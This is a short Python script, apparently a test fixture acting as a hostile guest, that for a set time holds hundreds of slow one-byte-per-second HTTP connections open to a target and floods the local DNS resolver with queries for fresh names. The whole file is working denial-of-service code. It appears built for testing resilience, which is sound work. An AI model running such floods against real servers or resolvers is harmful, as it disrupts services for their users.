"""A guest that means harm, for so many seconds: connections that never read or send a byte
a second, and lookups of ever new names. It says "begun", and at the end how much it did."""
import socket
import struct
import sys
import time

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
ATTEMPTS, HELD = 10_000, 600  # of each; connections that are kept
address = socket.getaddrinfo(host, port, socket.AF_INET)[0][4]
with open("/etc/resolv.conf") as f:
    resolver = [line.split()[1] for line in f if line.startswith("nameserver")][0]
lookups = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
lookups.setblocking(False)
request = f"GET /big HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()


def query(n):
    name = f"n{n}.flood.example" if n % 2 else f"n{n}.denied.example"
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", n & 0xFFFF, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


class Connection:
    def __init__(self, n):
        self.slow, self.sent, self.next = n % 2 == 0, 0, 0.0
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(address)

    def step(self, now):
        if self.sent >= len(request) or now < self.next:
            return True
        piece = request[self.sent:self.sent + 1] if self.slow else request[self.sent:]
        try:
            self.sent += self.socket.send(piece)
            self.next = now + 1
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


end = time.monotonic() + seconds
connections, connects, names = [], 0, 0
print("begun", flush=True)
while time.monotonic() < end:
    for _ in range(50):
        connections.append(Connection(connects))
        connects += 1
        try:
            lookups.sendto(query(names), (resolver, 53))
            names += 1
        except OSError:
            pass
    if connects >= ATTEMPTS:
        time.sleep(0.05)  # then it goes on with less haste
    now = time.monotonic()
    connections = [c for c in connections if c.step(now) or c.socket.close()]
    for old in connections[:-HELD]:
        old.socket.close()
    connections = connections[-HELD:]
print(connects, names, flush=True)
